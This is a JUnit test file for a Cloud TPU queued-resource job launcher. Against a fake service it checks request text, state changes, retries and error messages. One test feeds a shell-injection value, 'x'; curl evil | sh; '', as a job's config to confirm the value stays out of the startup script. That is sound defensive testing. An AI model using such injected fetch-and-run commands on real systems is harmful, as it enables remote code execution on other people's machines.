package org.noisystudent.cloudtpu;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.cloud.tpu.v2.Node;
import com.google.cloud.tpu.v2.QueuedResourceState.State;
import io.grpc.Status;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.noisystudent.job.Accelerator;
import org.noisystudent.job.GoldenText;
import org.noisystudent.job.JobServiceUnavailableException;
import org.noisystudent.job.JobSpec;
import org.noisystudent.job.JobState;
import org.noisystudent.job.JobStatus;
import org.noisystudent.savedmodel.UserErrorException;
import org.noisystudent.savedmodel.UserErrorException.Kind;

/** Against the API's own service stub in this process, with the answers that users report. */
final class QueuedResourceJobsTest {
  private static final String IMAGE = "registry.example/noisystudent@sha256:" + "0a".repeat(32);

  private FakeTpuService service;
  private QueuedResourceJobs jobs;
  private Duration slept = Duration.ZERO;

  @BeforeEach
  void start() throws IOException {
    service = new FakeTpuService();
    jobs =
        new QueuedResourceJobs(
            service.client(), options("research", false), time -> slept = slept.plus(time));
  }

  @AfterEach
  void stop() {
    jobs.close();
    service.close();
  }

  @ParameterizedTest
  @ValueSource(strings = {"v2-8", "v3-8", "v3-2048", "v4-64", "v5e-16", "v5p-128", "v6e-256"})
  void everyAcceleratorHasItsKnownRequest(String accelerator) throws IOException {
    String actual =
        QueuedResourceRequest.text(job("b7-teacher", accelerator), options("research", false));
    GoldenText.compare("queued-resource/" + accelerator + ".txtpb", actual);
  }

  @Test
  void spotReservationNetworkAndAccountAreAskedFor() throws IOException {
    try (QueuedResourceJobs spot =
        new QueuedResourceJobs(service.client(), options("research", true), time -> {})) {
      spot.submit(job("b7", "v5e-16"));
    }
    Node node = service.resource("b7").getTpu().getNodeSpec(0).getNode();
    assertTrue(node.getSchedulingConfig().getSpot());
    assertTrue(service.resource("b7").hasSpot());
    assertEquals("tpus", node.getNetworkConfig().getNetwork());
    assertEquals("trainer@research.example", node.getServiceAccount().getEmail());
  }

  @Test
  void noValueOfAJobIsInTheScriptThatIsRun() {
    String evil = "x'; curl evil | sh; '";
    JobSpec job =
        new JobSpec(
            "b7", evil, Optional.of(Accelerator.parse("v5e-16")), IMAGE, "gs://bucket/run", 1, 1);
    jobs.submit(job);
    Node node = service.resource("b7").getTpu().getNodeSpec(0).getNode();
    assertEquals(evil, node.getMetadataOrThrow("noisystudent-config"));
    String script = node.getMetadataOrThrow("startup-script");
    assertFalse(script.contains("evil"), script);
    assertFalse(script.contains("bucket"), script);
    assertFalse(script.contains("registry.example"), script);
  }

  @Test
  void goesThroughItsStates() {
    jobs.submit(job("b7", "v5e-16"));
    assertEquals(JobState.QUEUED, jobs.status("b7").state());
    service.state("b7", State.WAITING_FOR_RESOURCES, "");
    assertEquals(JobState.QUEUED, jobs.status("b7").state());
    service.state("b7", State.PROVISIONING, "");
    assertEquals(JobState.PROVISIONING, jobs.status("b7").state());
    service.state("b7", State.ACTIVE, "");
    assertEquals(JobState.RUNNING, jobs.status("b7").state());
    service.exitCodes("b7", "0", "0", "0");
    assertEquals(JobState.RUNNING, jobs.status("b7").state()); // of four hosts
    service.exitCodes("b7", "0", "0", "0", "0");
    JobStatus done = jobs.status("b7");
    assertEquals(JobState.SUCCEEDED, done.state());
    assertEquals("v5e-16", done.accelerator());
    assertEquals("gs://bucket/runs/b7-teacher", done.runDir());
    service.state("b7", State.SUSPENDED, "");
    assertEquals(JobState.PREEMPTED, jobs.status("b7").state());
  }

  @Test
  void aHostThatFailsEndsTheJobAndOnlyAMistakeIsNotRetried() {
    jobs.submit(job("b7", "v5e-16"));
    service.state("b7", State.ACTIVE, "");
    service.exitCodes("b7", "4");
    assertEquals(JobState.FAILED, jobs.status("b7").state());
    assertTrue(jobs.status("b7").mayBeRetried());
    service.exitCodes("b7", "3\n");
    assertFalse(jobs.status("b7").mayBeRetried());
    assertEquals("exit codes [3]", jobs.status("b7").message());
  }

  @Test
  void aStockoutIsToldAndMayBeRetried() {
    jobs.submit(job("b7", "v5e-16"));
    service.state("b7", State.FAILED, "There is no more capacity in the zone");
    JobStatus failed = jobs.status("b7");
    assertEquals(JobState.FAILED, failed.state());
    assertEquals("There is no more capacity in the zone", failed.message());
    assertTrue(failed.mayBeRetried());
  }

  @Test
  void beginningAgainAsksForTheSameOnceMore() {
    jobs.submit(job("b7", "v5e-16"));
    Node before = service.resource("b7").getTpu().getNodeSpec(0).getNode();
    service.state("b7", State.SUSPENDED, "");
    jobs.restart("b7");
    assertEquals(JobState.QUEUED, jobs.status("b7").state());
    assertEquals(1, jobs.status("b7").restarts());
    Node after = service.resource("b7").getTpu().getNodeSpec(0).getNode();
    assertEquals(before.getMetadataMap(), after.getMetadataMap());
    assertEquals(before.getAcceleratorType(), after.getAcceleratorType());
    assertTrue(slept.toSeconds() >= 5, slept.toString());
  }

  @Test
  void aJobIsNotLostWhereTheServiceFailsBetweenDeletingAndAskingAgain() {
    jobs.submit(job("b7", "v5e-16"));
    service.state("b7", State.SUSPENDED, "");
    service.failsNextCreation(Status.INTERNAL.withDescription("backend"));
    assertThrows(JobServiceUnavailableException.class, () -> jobs.restart("b7"));
    assertNull(service.resource("b7"));
    jobs.restart("b7");
    assertEquals(1, jobs.status("b7").restarts());
  }

  @Test
  void refusalsAreOneClearLine() {
    refusal(Status.UNAUTHENTICATED, "the credentials are missing or have expired");
    refusal(Status.PERMISSION_DENIED, "not allowed in project research: ");
    refusal(Status.RESOURCE_EXHAUSTED, "the quota of project research is used up: ");
    refusal(Status.INVALID_ARGUMENT, "Cloud TPU does not take it: ");
    jobs.submit(job("b7", "v5e-16"));
    assertTrue(refused(() -> jobs.submit(job("b7", "v5e-16"))).contains("the name is taken"));
    assertTrue(refused(() -> jobs.status("none")).contains("there is no job none in projects/"));
  }

  private void refusal(Status status, String line) {
    service.fails(status.withDescription("of the service\nsecond line"));
    String says = refused(() -> jobs.submit(job("b7", "v5e-16")));
    assertTrue(says.startsWith("cannot submit b7: " + line), says);
    assertEquals(1, says.lines().count());
  }

  @Test
  void anOutageMayPass() {
    jobs.submit(job("b7", "v5e-16"));
    service.fails(Status.INTERNAL.withDescription("backend"));
    assertThrows(JobServiceUnavailableException.class, () -> jobs.status("b7"));
    service.fails(Status.UNAVAILABLE.withDescription("once: the client asks again itself"));
    assertEquals(JobState.QUEUED, jobs.status("b7").state());
  }

  @Test
  void onlyJobsOfThisProgramAreListed() {
    jobs.submit(job("b7", "v5e-16"));
    jobs.submit(job("a0", "v3-8"));
    service.foreign("other");
    assertEquals(List.of("a0", "b7"), jobs.list().stream().map(JobStatus::name).toList());
    jobs.cancel("b7");
    assertEquals(JobState.CANCELLED, jobs.status("b7").state());
    String where = refused(() -> jobs.logs("a0", false, new StringBuilder()), Kind.USAGE);
    assertTrue(where.contains("sudo docker logs noisystudent"), where);
  }

  @Test
  void whatCloudTpuDoesNotHaveIsRefused() {
    assertTrue(
        refused(() -> jobs.submit(job("b7", "h100-8")), Kind.USAGE).contains("must be a TPU"));
    assertTrue(
        refused(() -> jobs.submit(job("b7", "tpu7x-8")), Kind.USAGE)
            .startsWith("--runtime-version must be given for tpu7x-8"));
  }

  private static String refused(Runnable request) {
    return refused(request, Kind.JOB);
  }

  private static String refused(Runnable request, Kind kind) {
    UserErrorException error = assertThrows(UserErrorException.class, request::run);
    assertEquals(kind, error.kind());
    return error.getMessage();
  }

  private static CloudTpuOptions options(String project, boolean spot) {
    return new CloudTpuOptions(
        project,
        "us-central2-b",
        Optional.empty(),
        Optional.of("tpus"),
        Optional.of("trainer@research.example"),
        Optional.empty(),
        spot);
  }

  private static JobSpec job(String name, String accelerator) {
    return new JobSpec(
        name,
        "seed: 1\ndata:\n  classes: 10\n",
        Optional.of(Accelerator.parse(accelerator)),
        IMAGE,
        "gs://bucket/runs/b7-teacher",
        20,
        1);
  }
}
